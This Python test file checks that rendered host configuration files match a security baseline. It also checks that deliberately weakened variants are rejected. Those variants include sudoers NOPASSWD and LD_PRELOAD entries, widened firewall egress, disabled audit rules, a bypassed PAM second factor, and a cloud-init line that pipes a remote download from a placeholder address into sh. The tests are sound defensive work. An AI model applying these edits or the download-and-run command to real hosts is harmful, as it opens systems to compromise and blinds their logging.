"""Every rendered host file, parsed by the program that reads it on the host, means what the baseline says.

For each role of the dev and lab stacks, each file from the rendering API is fed to its real parser
(tests/unit/renderparsers.py: nft, sshd, chronyd, rsyslogd, visudo/cvtsudoers, cloud-init, systemd-analyze,
nginx, postgres, sh, apt-config) and what the parser reports is compared with the directive set written by
hand in tests/unit/renderoracle.py, so an extra directive fails even when the file is valid. A parser that
is not installed fails with the install command (scripts/render-deps.sh), it is never skipped.
"""

from __future__ import annotations

import re
from functools import cache
from pathlib import Path

import pytest
import renderoracle as oracle
import renderparsers as rp
import yaml
from hostkeys import identity

from ccsec.infra.config import ROLES
from ccsec.infra.stackfile import load_stack_config

STACKS = ("dev", "lab")
PARSERS = (
    "nft", "unshare", "sshd", "ssh-keygen", "chronyd", "rsyslogd", "visudo", "cvtsudoers", "cloud-init",
    "systemd-analyze", "nginx", "openssl", rp.POSTGRES, "runuser", "sh", "bash", "apt-config",
)  # fmt: skip
HOSTS = [(stack, role) for stack in STACKS for role in ROLES if load_stack_config(stack).cluster[role].count > 0]


@cache
def rendered(stack: str, role: str, work: str = "") -> tuple[oracle.Host, list[dict], str]:
    return oracle.render_host(load_stack_config(stack), role, f"{stack}-{role}-1", _identity(), Path(work or "/"))


@cache
def _identity():
    return identity()


def host_for(stack: str, role: str, work: Path) -> tuple[oracle.Host, list[dict], str]:
    host, files, user_data = rendered(stack, role)
    return oracle.Host(**{**host.__dict__, "work": work}), files, user_data


FILE_CASES = [(stack, role, f["path"]) for stack, role in HOSTS for f in rendered(stack, role)[1]]


@pytest.mark.parametrize("binary", PARSERS)
def test_the_real_parser_is_installed(binary: str) -> None:
    rp.tool(binary)


@pytest.mark.parametrize(("stack", "role"), HOSTS)
def test_every_rendered_file_has_a_parser_check(stack: str, role: str) -> None:
    _, files, _ = rendered(stack, role)
    missing = sorted(f["path"] for f in files if f["path"] not in oracle.CHECKS)
    assert not missing, f"no parser check for {missing}: add one to tests/unit/renderoracle.py CHECKS"


@pytest.mark.parametrize(("stack", "role", "path"), FILE_CASES, ids=[f"{s}-{r}-{p}" for s, r, p in FILE_CASES])
def test_host_file_parses_to_the_expected_directives(stack: str, role: str, path: str, tmp_path: Path) -> None:
    host, files, _ = host_for(stack, role, tmp_path)
    (text,) = [f["content"] for f in files if f["path"] == path]
    oracle.CHECKS[path](text, host)


@cache
def cloud_init_verdicts() -> dict[tuple[str, str], str]:
    """cloud-init's schema verdict on every host's user-data, in one cloud-init process."""
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        return rp.cloud_init_schema_batch({h: rendered(*h)[2] for h in HOSTS}, Path(tmp))


def test_cloud_init_schema_cli_accepts_a_rendered_user_data(tmp_path: Path) -> None:
    """The CLI itself once (the batch below calls the same validate_cloudconfig_file)."""
    _, _, user_data = rendered("dev", "db")
    rp.parse_cloud_config(user_data, tmp_path)


@pytest.mark.parametrize(("stack", "role"), HOSTS)
def test_user_data_is_a_valid_cloud_config_with_the_expected_keys(stack: str, role: str, tmp_path: Path) -> None:
    host, _, user_data = host_for(stack, role, tmp_path)
    verdict = cloud_init_verdicts()[(stack, role)]
    assert not verdict, f"cloud-init schema refused the user-data of {stack}-{role}-1: {verdict}"
    document = yaml.safe_load(user_data)
    oracle.check_cloud_config_document(document, host)
    oracle.check_secret_env_files(document, host)


def test_the_fast_cloud_config_check_agrees_with_cloud_init_schema(tmp_path: Path) -> None:
    """The property test validates with cloud-init's JSON schema in-process; it refuses what cloud-init refuses."""
    _, _, user_data = rendered("dev", "bastion")
    rp.check_cloud_config_fast(user_data)
    broken = user_data.replace("ssh_pwauth: false", "ssh_pwauth: [1, 2]")
    assert rp.cloud_init_schema_batch({"broken": broken}, tmp_path)["broken"]
    with pytest.raises(rp.ParserRefused):
        rp.check_cloud_config_fast(broken)


AGENT_HOSTS = [(s, r) for s, r in HOSTS if r in ("db", "recordings")]


@pytest.mark.parametrize(("stack", "role"), AGENT_HOSTS)
def test_backup_units_as_written_by_cloud_init_pass_systemd_analyze_verify(
    stack: str, role: str, tmp_path: Path
) -> None:
    host, _, user_data = host_for(stack, role, tmp_path)
    document = yaml.safe_load(user_data)  # cloud-init's schema verdict: test_user_data_is_a_valid_cloud_config...
    units = {
        e["path"]: rp.decode_write_file(e)
        for e in document["write_files"]
        if e["path"].startswith("/etc/systemd/system/")
    }
    engine = {"db": "postgres", "recordings": "files"}[role]
    names = [
        f"ccsec-backup-{kind}@{engine}.{suffix}"
        for kind in ("diff", "full", "check")
        for suffix in ("service", "timer")
    ]
    if role == "recordings":
        names += ["ccsec-backup-offsite.service", "ccsec-backup-offsite.timer"]
    expected_paths = sorted(
        [*oracle.UNITS, oracle.DIFF_DROPIN, *(oracle.OFFSITE_UNITS if role == "recordings" else [])]
    )
    assert sorted(units) == expected_paths
    dropin = units[oracle.DIFF_DROPIN].decode()
    lines = [line for line in dropin.splitlines() if line and not line.startswith("#")]
    assert lines == ["[Timer]", "OnCalendar=", f"OnCalendar=*:0/{host.cfg.backup.diff_minutes}"]
    rp.verify_units(units, tmp_path, names)


def test_the_committed_units_verify_too(tmp_path: Path) -> None:
    """backup/systemd as committed (the same bytes cloud-init writes), every unit and template instance."""
    source = Path(oracle.__file__).resolve().parents[2] / "backup" / "systemd"
    units = {f"/etc/systemd/system/{p.name}": p.read_bytes() for p in sorted(source.iterdir())}
    names = [re.sub(r"@\.", "@postgres.", Path(p).name) for p in units]
    assert len(names) == 8
    rp.verify_units(units, tmp_path, names)


# --- the oracle catches a valid file with one directive too many ------------------------------------

SSHD = "/etc/ssh/sshd_config.d/10-ccaas-baseline.conf"
INJECTIONS = [
    ("sshd: a second PermitRootLogin (ignored by sshd, still a directive)", SSHD, "PermitRootLogin yes\n"),
    ("sshd: AuthorizedKeysCommand", SSHD, "AuthorizedKeysCommand /bin/cat\nAuthorizedKeysCommandUser nobody\n"),
    ("sshd: Match relaxing auth", SSHD, "Match Address 10.0.0.0/8\n    PasswordAuthentication yes\n"),
    ("nftables: accept from anywhere", "/etc/nftables.conf", None),
    ("nftables: output accept-all", "/etc/nftables.conf", "add rule inet ccaas_filter output tcp dport 4444 accept\n"),
    ("chrony: allow", "/etc/chrony/chrony.conf", "allow all\n"),
    ("chrony: extra server", "/etc/chrony/chrony.conf", "server 203.0.113.9 iburst\n"),
    ("chrony: Debian's pool back", "/etc/chrony/chrony.conf", "pool 2.debian.pool.ntp.org iburst\n"),
    ("chrony: servers from DHCP", "/etc/chrony/chrony.conf", "sourcedir /run/chrony-dhcp\n"),
    ("chrony: command port open", "/etc/chrony/chrony.conf", "cmdport 323\n"),
    (
        "rsyslog: plaintext UDP copy",
        "/etc/rsyslog.d/60-ccaas-forward.conf",
        '*.* action(type="omfwd" target="x" protocol="udp")\n',
    ),
    (
        "rsyslog: module load",
        "/etc/rsyslog.d/60-ccaas-forward.conf",
        'module(load="imtcp")\ninput(type="imtcp" port="10514")\n',
    ),
    ("sudoers: NOPASSWD for a user", "/etc/sudoers.d/10-ccaas-baseline", "alice ALL=(ALL) NOPASSWD: ALL\n"),
    ("sudoers: env_keep", "/etc/sudoers.d/10-ccaas-baseline", 'Defaults env_keep += "LD_PRELOAD"\n'),
]


@pytest.mark.parametrize(("case", "path", "extra"), INJECTIONS, ids=[c for c, _, _ in INJECTIONS])
def test_one_directive_too_many_is_caught_in_a_valid_file(
    case: str, path: str, extra: str | None, tmp_path: Path
) -> None:
    host, files, _ = host_for("dev", "app", tmp_path)
    (text,) = [f["content"] for f in files if f["path"] == path]
    if extra is None:  # a rule inside the input chain, before the final drop
        text = text.replace(
            "    limit rate 5/second burst 10 packets log",
            "    tcp dport 8080 accept\n    limit rate 5/second burst 10 packets log",
        )
    else:
        text += extra
    with pytest.raises(AssertionError) as caught:
        oracle.CHECKS[path](text, host)
    assert not isinstance(caught.value, rp.ParserRefused), f"{case}: the parser refused it; the test wants a valid file"


def test_runcmd_as_a_shell_string_is_caught(tmp_path: Path) -> None:
    host, _, user_data = host_for("dev", "app", tmp_path)
    document = rp.check_cloud_config_fast(user_data + "  - curl http://203.0.113.9/x | sh\n")
    with pytest.raises(AssertionError, match="runcmd"):
        oracle.check_cloud_config_document(document, host)


AUDIT_RULES = "/etc/audit/rules.d/50-ccaas-baseline.rules"
# Edits a careless colleague or an attacker with write access to the template would make: each weakens the
# PCI DSS 10.2.1 trail while the file stays valid for auditctl. (old, new) replaces the first match.
AUDIT_EDITS = [
    ("b32 failed-access rule dropped", "-a always,exit -F arch=b32 -S creat,open,openat,open_by_handle_at,", "#"),
    ("EPERM no longer recorded", "-F exit=-EPERM", "-F exit=-ENOENT"),
    (
        "deletions only for uid 10000+",
        "unlinkat,rename,renameat,renameat2 -F auid>=1000",
        "unlinkat,rename -F auid>=10000",
    ),
    ("chown left out", "-S chown,fchown,lchown,fchownat -F", "-S fchownat -F"),
    ("an exclude silences a key", "-D\n", "-D\n-a never,exit -F arch=b64 -S openat -k quiet\n"),
    ("rules left mutable", "-e 2", "-e 1"),
    ("audit logs read unrecorded", "-w /var/log/audit/ -p rwa", "-w /var/log/audit/ -p wa"),
    ("mounts only as root", "-S mount,umount2 -F auid>=1000 -F auid!=unset", "-S mount,umount2 -F auid=0"),
    ("sudo no longer a privileged command", "-F path=/usr/bin/sudo -F perm=x", "-F path=/usr/bin/sudoedit -F perm=x"),
    ("a rule without a key", "-S sethostname,setdomainname -k system-locale\n-a", "-S sethostname,setdomainname\n-a"),
]
AUDITD_EDITS = [
    (
        "auditd deletes old logs",
        "/etc/audit/auditd.conf",
        "max_log_file_action = KEEP_LOGS",
        "max_log_file_action = ROTATE",
    ),
    ("a full disk only suspends", "/etc/audit/auditd.conf", "disk_full_action = SINGLE", "disk_full_action = SUSPEND"),
    ("warning after the stop", "/etc/audit/auditd.conf", "space_left = 200", "space_left = 50"),
    ("set twice, last wins", "/etc/audit/auditd.conf", "plugin_dir", "write_logs = no\nplugin_dir"),
    ("events no longer leave the host", "/etc/audit/plugins.d/syslog.conf", "active = yes", "active = no"),
]


def assert_edit_caught(role: str, path: str, case: str, old: str, new: str, tmp_path: Path) -> None:
    """One edit to the dev stack's rendered file for ``role``: the oracle must refuse the result."""
    host, files, _ = host_for("dev", role, tmp_path)
    (text,) = [f["content"] for f in files if f["path"] == path]
    assert old in text, f"{case}: the edit no longer applies to the rendered file"
    with pytest.raises(AssertionError):
        oracle.CHECKS[path](text.replace(old, new, 1), host)


@pytest.mark.parametrize(
    ("case", "path", "old", "new"),
    [(c, AUDIT_RULES, o, n) for c, o, n in AUDIT_EDITS] + AUDITD_EDITS,
    ids=[c for c, *_ in AUDIT_EDITS] + [c for c, *_ in AUDITD_EDITS],
)
def test_a_weakened_audit_trail_is_caught(case: str, path: str, old: str, new: str, tmp_path: Path) -> None:
    assert_edit_caught("db", path, case, old, new, tmp_path)


CHRONY_EDITS = [  # directives chronyd -p expands or drops: the parser refuses them, the check still fails
    ("a drop-in directory", "cmdport 0\n", "cmdport 0\nconfdir /etc/chrony/conf.d\n"),
    ("an included file", "cmdport 0\n", "cmdport 0\ninclude /etc/chrony/extra.conf\n"),
    ("the internal server gone", "server 10.20.250.123 iburst\n", "pool pool.ntp.org iburst\n"),
    ("the same server, other spelling", "server 10.20.250.123 iburst", "SERVER 10.20.250.123 iburst"),
    ("a public server beside it", "server 10.20.250.123 iburst", "server 10.20.250.123 iburst\nserver 162.159.200.1"),
]


@pytest.mark.parametrize(("case", "old", "new"), CHRONY_EDITS, ids=[c for c, *_ in CHRONY_EDITS])
def test_a_time_source_other_than_the_internal_servers_is_caught(case: str, old: str, new: str, tmp_path: Path) -> None:
    assert_edit_caught("app", "/etc/chrony/chrony.conf", case, old, new, tmp_path)


SECOND_FACTOR_EDITS = [
    ("wrong codes never counted", "auth\t[default=die]\t\t\tpam_faillock.so authfail\n", ""),
    ("the code optional", "[success=2 default=ignore]\tpam_oath.so", "optional\tpam_oath.so"),
    ("any code passes", "auth\trequisite\t\t\tpam_faillock.so preauth\n", "auth sufficient pam_permit.so\n"),
    ("a password prompt too", "account    required     pam_nologin.so\n", "@include common-auth\n"),
    ("a wider window", "window=3", "window=300"),
    ("seeds from a file anyone may write", "usersfile=/etc/users.oath", "usersfile=/tmp/users.oath"),
    ("lockout left to a missing module", "auth\t[default=die]\t\t\tpam_faillock.so", "-auth\tpam_failock.so"),
]


@pytest.mark.parametrize(("case", "old", "new"), SECOND_FACTOR_EDITS, ids=[c for c, *_ in SECOND_FACTOR_EDITS])
def test_a_weakened_second_factor_is_caught(case: str, old: str, new: str, tmp_path: Path) -> None:
    assert_edit_caught("bastion", "/etc/pam.d/sshd", case, old, new, tmp_path)


NFT = "/etc/nftables.conf"
_EGRESS_TAIL = '    limit rate 5/second burst 10 packets log prefix "ccaas-egress-drop: "'
_S443 = "ip daddr 10.20.250.0/24 tcp dport 443 accept"
EGRESS_EDITS = [  # HOST-04 egress on the db host: each edit lets out more (or breaks a flow); valid for nft
    (
        "output policy accept",
        "hook output priority filter; policy drop;",
        "hook output priority filter; policy accept;",
    ),
    ("the final drop gone", "level info\n    counter drop\n  }\n}", "level info\n    counter\n  }\n}"),
    ("drops no longer logged", _EGRESS_TAIL + " level info\n", ""),
    ("the internet on 443", _EGRESS_TAIL, "    ip daddr 0.0.0.0/0 tcp dport 443 accept\n" + _EGRESS_TAIL),
    ("the internet over IPv6", _EGRESS_TAIL, "    ip6 daddr ::/0 tcp dport 443 accept\n" + _EGRESS_TAIL),
    ("services widened to a /16", _S443, "ip daddr 10.20.0.0/16 tcp dport 443 accept"),
    ("any port to services", _S443, "ip daddr 10.20.250.0/24 accept"),
    ("a port range to services", _S443, "ip daddr 10.20.250.0/24 tcp dport 1-65535 accept"),
    ("root may go anywhere", _EGRESS_TAIL, "    meta skuid 0 accept\n" + _EGRESS_TAIL),
    ("new connections anywhere", "ct state established,related accept", "ct state established,related,new accept"),
    ("an ICMP tunnel out", _EGRESS_TAIL, "    ip protocol icmp accept\n" + _EGRESS_TAIL),
    ("every interface but loopback", _EGRESS_TAIL, '    oifname "eth*" accept\n' + _EGRESS_TAIL),
    ("a verdict map", _EGRESS_TAIL, "    ip daddr vmap { 0.0.0.0/0 : accept }\n" + _EGRESS_TAIL),
    ("metadata on any port", "ip daddr 169.254.169.254 tcp dport 80 accept", "ip daddr 169.254.169.254 accept"),
    ("metadata for every uid", "    ip daddr 169.254.169.254 meta skuid != 0 counter drop\n", ""),
    (
        "metadata over UDP too",
        "169.254.169.254 tcp dport 80 accept",
        "169.254.169.254 meta l4proto { tcp, udp } th dport 80 accept",
    ),
    ("DNS lost", 'ip daddr 10.20.250.0/24 udp dport 53 accept comment "DNS to internal resolvers"\n', ""),
    ("Keystone lost", "ip daddr 10.20.250.0/24 tcp dport 5000 accept", "ip daddr 10.20.250.0/24 tcp dport 5001 accept"),
    ("log host from a wider zone", "ip daddr 10.20.40.0/24 tcp dport 6514", "ip daddr 10.20.0.0/16 tcp dport 6514"),
]


@pytest.mark.parametrize(("case", "old", "new"), EGRESS_EDITS, ids=[c for c, *_ in EGRESS_EDITS])
def test_a_widened_egress_is_caught(case: str, old: str, new: str, tmp_path: Path) -> None:
    assert_edit_caught("db", NFT, case, old, new, tmp_path)


FORWARD = "/etc/rsyslog.d/60-ccaas-forward.conf"
RECEIVER_CONF = "/etc/ccaas/log-receiver.conf"
RECEIVER_UNIT = "/etc/systemd/system/ccaas-log-receiver.service"
SEAL_SERVICE = "/etc/systemd/system/ccaas-log-seal.service"
JOURNAL_INPUT = "/etc/rsyslog.d/50-ccaas-journal.conf"
LOG_PATH_EDITS = [  # HOST-15: the ways a careless edit opens or loses the log path; each must fail the oracle
    ("db", JOURNAL_INPUT, "a rate limit that drops bursts", 'Ratelimit.Interval="0"', 'Ratelimit.Interval="600"'),
    ("db", JOURNAL_INPUT, "no cursor: a restart rereads or skips", 'StateFile="ccaas-imjournal.state" ', ""),
    ("db", JOURNAL_INPUT, "main queue lost at restart", 'queue.saveOnShutdown="on"', 'queue.saveOnShutdown="off"'),
    (
        "db",
        "/etc/systemd/journald.conf.d/ccaas-baseline.conf",
        "journald pushes too",
        "ForwardToSyslog=no",
        "ForwardToSyslog=yes",
    ),
    (
        "app",
        FORWARD,
        "sender trusts the system CA bundle",
        "/etc/ssl/ccaas/log-ca.crt",
        "/etc/ssl/certs/ca-certificates.crt",
    ),
    ("app", FORWARD, "sender checks fingerprints only", 'tls.authMode="name"', 'tls.authMode="fingerprint"'),
    ("app", FORWARD, "sender without TLS", 'tls="on"', 'tls="off"'),
    ("app", FORWARD, "sender accepts any log host name", 'tls.permittedPeer=["', 'tls.permittedPeer=["*", "'),
    ("app", FORWARD, "sender over unacknowledged TLS syslog", 'type="omrelp"', 'type="omfwd"'),
    ("app", FORWARD, "sender without a disk queue", 'queue.filename="ccaas_fwd_1" ', ""),
    ("app", FORWARD, "sender drops the queue at shutdown", 'queue.saveOnShutdown="on"', 'queue.saveOnShutdown="off"'),
    ("app", FORWARD, "sender gives up retrying", 'action.resumeRetryCount="-1"', 'action.resumeRetryCount="3"'),
    (
        "app",
        FORWARD,
        "a second, public target",
        "action(\n",
        'action(type="omfwd" target="203.0.113.9" port="514")\naction(\n',
    ),
    ("app", FORWARD, "sender without its client certificate", ' tls.myCert="/etc/ssl/ccaas/log.crt"', ""),
    (
        "loghost",
        RECEIVER_CONF,
        "receiver accepts any sender name",
        'tls.permittedPeer=["*.dev.',
        'tls.permittedPeer=["*", "*.dev.',
    ),
    ("loghost", RECEIVER_CONF, "receiver checks only the chain", 'tls.authMode="name"', 'tls.authMode="certvalid"'),
    ("loghost", RECEIVER_CONF, "receiver without TLS", 'tls="on"', 'tls="off"'),
    (
        "loghost",
        RECEIVER_CONF,
        "receiver trusts the system CA bundle",
        '"/etc/ssl/ccaas/log-ca.crt"',
        '"/etc/ssl/certs/ca-certificates.crt"',
    ),
    (
        "loghost",
        RECEIVER_CONF,
        "a second, plain listener",
        "input(\n",
        'module(load="imudp")\ninput(type="imudp" port="514")\ninput(\n',
    ),
    ("loghost", RECEIVER_CONF, "the sender's name reaches the path raw", "%hostname:::secpath-replace%", "%hostname%"),
    ("loghost", RECEIVER_CONF, "store outside the data volume", 'string="/srv/logs/', 'string="/var/log/remote/'),
    ("loghost", RECEIVER_CONF, "asynchronous writes", 'asyncWriting="off"', 'asyncWriting="on"'),
    ("loghost", RECEIVER_CONF, "no source address on the line", "from=%fromhost-ip% ", ""),
    ("loghost", RECEIVER_UNIT, "receiver as root", "User=ccaas-logs\n", "User=root\n"),
    ("loghost", RECEIVER_UNIT, "receiver keeps its capabilities", "CapabilityBoundingSet=\n", ""),
    ("loghost", RECEIVER_UNIT, "receiver may write anywhere", "ProtectSystem=strict\n", ""),
    ("loghost", RECEIVER_UNIT, "receiver may gain privileges", "NoNewPrivileges=yes\n", ""),
    (
        "loghost",
        RECEIVER_UNIT,
        "receiver reads the key from /etc",
        "LoadCredential=log.key:/etc/ssl/ccaas/log.key\n",
        "",
    ),
    ("loghost", SEAL_SERVICE, "seal skips the files", "( -type d -o -type f )", "-type d"),
    ("loghost", SEAL_SERVICE, "seal clears the flag", "/usr/bin/chattr +a", "/usr/bin/chattr -a"),
]


@pytest.mark.parametrize(
    ("role", "path", "case", "old", "new"), LOG_PATH_EDITS, ids=[c for _, _, c, *_ in LOG_PATH_EDITS]
)
def test_a_weakened_log_path_is_caught(role: str, path: str, case: str, old: str, new: str, tmp_path: Path) -> None:
    assert_edit_caught(role, path, case, old, new, tmp_path)
